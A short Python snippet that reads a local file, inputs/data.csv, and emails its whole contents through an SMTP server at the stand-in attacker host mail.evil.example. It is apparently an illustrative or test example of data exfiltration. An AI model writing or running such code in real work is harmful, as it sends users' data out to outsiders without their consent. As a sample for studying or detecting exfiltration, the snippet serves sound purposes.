import smtplib
from email.message import EmailMessage

m = EmailMessage()
m.set_content(open("inputs/data.csv").read())
smtplib.SMTP("mail.evil.example").send_message(m, "a@b.example", "c@d.example")
